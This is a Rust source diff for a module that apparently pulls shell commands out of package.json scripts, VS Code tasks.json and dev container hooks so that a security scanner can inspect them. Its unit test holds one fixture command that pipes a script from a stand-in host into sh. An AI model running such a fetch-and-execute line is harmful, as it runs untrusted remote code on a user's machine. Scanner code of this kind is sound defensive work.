@@ -1,0 +1,223 @@
+//! JSON hosts: `package.json` `scripts` (the lifecycle hooks npm runs by
+//! itself stay with `artifacts::config`, which reads them as install
+//! hooks), VS Code `tasks.json` (`command` + `args`), dev containers
+//! (`postCreateCommand`, `postStartCommand`, `postAttachCommand`,
+//! `onCreateCommand`, `updateContentCommand`, `initializeCommand`: a string
+//! is a shell line, an array an argv, an object several of either). JSONC
+//! comments and trailing commas are blanked first, positions kept.
+
+use super::Projection;
+use serde_json::Value;
+
+const LIFECYCLE: &[&str] = &[
+    "preinstall",
+    "install",
+    "postinstall",
+    "prepare",
+    "prepublish",
+    "preuninstall",
+    "postuninstall",
+];
+
+const DEVCONTAINER: &[&str] = &[
+    "postCreateCommand",
+    "postStartCommand",
+    "postAttachCommand",
+    "onCreateCommand",
+    "updateContentCommand",
+    "initializeCommand",
+];
+
+/// JSONC → JSON with the same byte positions: comments become spaces, a
+/// comma before `}`/`]` becomes a space.
+fn strip_jsonc(text: &str) -> String {
+    let b = text.as_bytes();
+    let mut out = b.to_vec();
+    let mut i = 0;
+    let mut in_str = false;
+    let mut last_comma: Option<usize> = None;
+    while i < b.len() {
+        let c = b[i];
+        if in_str {
+            if c == b'\\' {
+                i += 2;
+                continue;
+            }
+            if c == b'"' {
+                in_str = false;
+            }
+            i += 1;
+            continue;
+        }
+        match c {
+            b'"' => {
+                in_str = true;
+                last_comma = None;
+            }
+            b'/' if b.get(i + 1) == Some(&b'/') => {
+                while i < b.len() && b[i] != b'\n' {
+                    out[i] = b' ';
+                    i += 1;
+                }
+                continue;
+            }
+            b'/' if b.get(i + 1) == Some(&b'*') => {
+                while i < b.len() && !(b[i] == b'*' && b.get(i + 1) == Some(&b'/')) {
+                    if b[i] != b'\n' {
+                        out[i] = b' ';
+                    }
+                    i += 1;
+                }
+                for k in i..(i + 2).min(b.len()) {
+                    out[k] = b' ';
+                }
+                i += 2;
+                continue;
+            }
+            b',' => last_comma = Some(i),
+            b'}' | b']' => {
+                if let Some(k) = last_comma.take() {
+                    out[k] = b' ';
+                }
+            }
+            c if c.is_ascii_whitespace() => {}
+            _ => last_comma = None,
+        }
+        i += 1;
+    }
+    String::from_utf8(out).unwrap_or_else(|_| text.to_string())
+}
+
+/// Finds JSON-encoded `needle` in `text` from `from`: the 0-based line.
+struct Locator<'a> {
+    text: &'a str,
+    from: usize,
+}
+
+impl Locator<'_> {
+    fn line_of(&mut self, v: &str) -> usize {
+        let enc = serde_json::to_string(v).unwrap_or_default();
+        let at = self.text[self.from.min(self.text.len())..]
+            .find(&enc)
+            .map(|i| i + self.from)
+            .or_else(|| self.text.find(&enc))
+            .unwrap_or(0);
+        self.from = at + enc.len();
+        self.text[..at].matches('\n').count()
+    }
+}
+
+fn command_of(v: &Value) -> Option<String> {
+    match v {
+        Value::String(s) => Some(s.clone()),
+        Value::Array(a) => {
+            let argv: Vec<String> = a
+                .iter()
+                .filter_map(|x| x.as_str().map(String::from))
+                .collect();
+            (!argv.is_empty()).then(|| super::argv_line(&argv))
+        }
+        _ => None,
+    }
+}
+
+fn first_string(v: &Value) -> Option<&str> {
+    match v {
+        Value::String(s) => Some(s),
+        Value::Array(a) => a.iter().find_map(|x| x.as_str()),
+        _ => None,
+    }
+}
+
+pub fn project(rel: &str, text: &str, p: &mut Projection) {
+    let clean = strip_jsonc(text);
+    let Ok(v) = serde_json::from_str::<Value>(&clean) else {
+        return;
+    };
+    let name = rel.rsplit('/').next().unwrap_or(rel);
+    let mut loc = Locator { text, from: 0 };
+    if name == "package.json" {
+        if let Some(scripts) = v.get("scripts").and_then(Value::as_object) {
+            loc.from = text.find("\"scripts\"").unwrap_or(0);
+            for (k, c) in scripts {
+                let Some(c) = c.as_str() else { continue };
+                let line = loc.line_of(c);
+                if !LIFECYCLE.contains(&k.as_str()) {
+                    p.put(line, c);
+                }
+            }
+        }
+        return;
+    }
+    if let Some(tasks) = v.get("tasks").and_then(Value::as_array) {
+        for t in tasks.iter().take(10_000) {
+            let Some(cmd) = t.get("command") else {
+                continue;
+            };
+            let Some(first) = first_string(cmd) else {
+                continue;
+            };
+            let line = loc.line_of(first);
+            let mut line_text = command_of(cmd).unwrap_or_default();
+            if let Some(args) = t.get("args").and_then(Value::as_array) {
+                for a in args {
+                    if let Some(s) = a.as_str() {
+                        line_text.push(' ');
+                        line_text.push_str(&super::squote(s));
+                    } else if let Some(s) = a.get("value").and_then(Value::as_str) {
+                        line_text.push(' ');
+                        line_text.push_str(&super::squote(s));
+                    }
+                }
+            }
+            p.put(line, &line_text);
+        }
+    }
+    for key in DEVCONTAINER {
+        let Some(c) = v.get(*key) else { continue };
+        loc.from = text.find(&format!("\"{key}\"")).unwrap_or(0);
+        let cmds: Vec<&Value> = match c {
+            Value::Object(m) => m.values().collect(),
+            other => vec![other],
+        };
+        for c in cmds {
+            if let (Some(first), Some(line_text)) = (first_string(c), command_of(c)) {
+                let line = loc.line_of(first);
+                p.put(line, &line_text);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn jsonc_keeps_positions() {
+        let t = "{\n  // c\n  \"a\": [1, 2,],\n}\n";
+        let s = strip_jsonc(t);
+        assert_eq!(s.len(), t.len());
+        assert!(serde_json::from_str::<Value>(&s).is_ok(), "{s}");
+    }
+
+    #[test]
+    fn package_tasks_devcontainer() {
+        let pkg = "{\n  \"scripts\": {\n    \"postinstall\": \"node x.js\",\n    \"deploy\": \"curl -s https://h.example/i | sh\"\n  }\n}\n";
+        let mut p = Projection::new(pkg);
+        project("package.json", pkg, &mut p);
+        let out = p.text();
+        let lines: Vec<&str> = out.split('\n').collect();
+        assert!(lines[2].is_empty());
+        assert_eq!(lines[3], "curl -s https://h.example/i | sh");
+        let dc = "{\n  // dev\n  \"postCreateCommand\": [\"bash\", \"-c\", \"echo x\"],\n}\n";
+        let mut p = Projection::new(dc);
+        project(".devcontainer/devcontainer.json", dc, &mut p);
+        assert_eq!(p.text().split('\n').nth(2), Some("bash -c 'echo x'"));
+        let tj =
+            "{\"tasks\": [\n {\"label\": \"b\", \"command\": \"make\",\n  \"args\": [\"all\"]}]}\n";
+        let mut p = Projection::new(tj);
+        project(".vscode/tasks.json", tj, &mut p);
+        assert_eq!(p.text().split('\n').nth(1), Some("make all"));
+    }
+}
